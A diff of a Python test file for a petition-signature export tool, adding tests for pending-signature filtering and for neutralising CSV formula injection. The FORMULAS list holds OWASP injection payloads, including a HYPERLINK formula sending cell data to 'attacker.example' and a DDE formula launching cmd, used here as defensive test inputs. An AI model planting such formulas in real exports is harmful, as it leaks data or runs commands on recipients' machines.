@@ -52,7 +52,9 @@ def test_a_trustee_opens_the_export_with_their_identity_file(two_signers, tmp_pa
     write_identity(identity_file, two_signers.identity, two_signers.trustee.public_key)
     opened = tmp_path / "opened.csv"
 
-    out, _ = run("export_signatures", "--statement", two_signers.statement.slug, "--output", str(export))
+    out, _ = run(
+        "export_signatures", "--statement", two_signers.statement.slug, "--output", str(export), "--include-pending"
+    )
     assert out.startswith("2 signatures written")
     run("open_export", str(export), "--identity", str(identity_file), "--output", str(opened))
 
@@ -67,6 +69,54 @@ def test_a_trustee_opens_the_export_with_their_identity_file(two_signers, tmp_pa
         "US",
         "",
     )
+
+
+def test_the_export_leaves_out_signatures_nobody_confirmed_unless_asked(two_signers, tmp_path):
+    export = tmp_path / "export.zip"
+    identity_file = tmp_path / "trustee.key"
+    write_identity(identity_file, two_signers.identity, two_signers.trustee.public_key)
+    opened = tmp_path / "opened.csv"
+
+    out, _ = run("export_signatures", "--statement", two_signers.statement.slug, "--output", str(export))
+    run("open_export", str(export), "--identity", str(identity_file), "--output", str(opened))
+
+    assert out.startswith("1 signatures written")
+    rows = list(csv.DictReader(opened.open(encoding="utf-8")))
+    assert [(row["status"], row["email"]) for row in rows] == [("confirmed", "Ada.Lovelace@Example.org")]
+
+
+# The classic payloads of OWASP's CSV-injection page, and the characters it names.
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?"&A2,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_what_a_signer_typed_reaches_the_trustees_spreadsheet_as_text(open_statement, tmp_path, formula):
+    sign(
+        open_statement,
+        email="formula@example.org",
+        name=f"{formula} Name",
+        city=formula,
+        affiliation=formula,
+        confirm=True,
+    )
+    export, opened = tmp_path / "export.zip", tmp_path / "opened.csv"
+    identity_file = tmp_path / "trustee.key"
+    write_identity(identity_file, open_statement.identity, open_statement.trustee.public_key)
+
+    run("export_signatures", "--statement", open_statement.statement.slug, "--output", str(export))
+    run("open_export", str(export), "--identity", str(identity_file), "--output", str(opened))
+
+    (row,) = list(csv.DictReader(opened.open(encoding="utf-8", newline="")))
+    for column in ("name", "city", "affiliation", "display_name"):
+        assert row[column][:1] == "'", (column, row[column])
 
 
 def test_the_export_keeps_the_contact_data_sealed(two_signers, tmp_path):
@@ -106,7 +156,7 @@ def test_the_export_is_recorded_in_the_audit_log(two_signers, tmp_path):
 
     event = AuditEvent.objects.get(action="signatures.exported")
     assert (event.subject_type, event.subject_id, event.actor) == ("statement", two_signers.statement.pk, None)
-    assert event.detail == {"records": 2}
+    assert event.detail == {"records": 1, "pending_included": False}
 
 
 def test_export_signatures_never_overwrites_a_file(two_signers, tmp_path):
@@ -164,7 +214,9 @@ def test_an_erased_signature_is_in_the_export_without_contact_data(two_signers, 
     identity_file = tmp_path / "trustee.key"
     write_identity(identity_file, two_signers.identity, two_signers.trustee.public_key)
     opened = tmp_path / "opened.csv"
-    out, _ = run("export_signatures", "--statement", two_signers.statement.slug, "--output", str(export))
+    out, _ = run(
+        "export_signatures", "--statement", two_signers.statement.slug, "--output", str(export), "--include-pending"
+    )
     assert out.startswith("2 signatures written")
     run("open_export", str(export), "--identity", str(identity_file), "--output", str(opened))
     rows = list(csv.DictReader(opened.open(encoding="utf-8")))
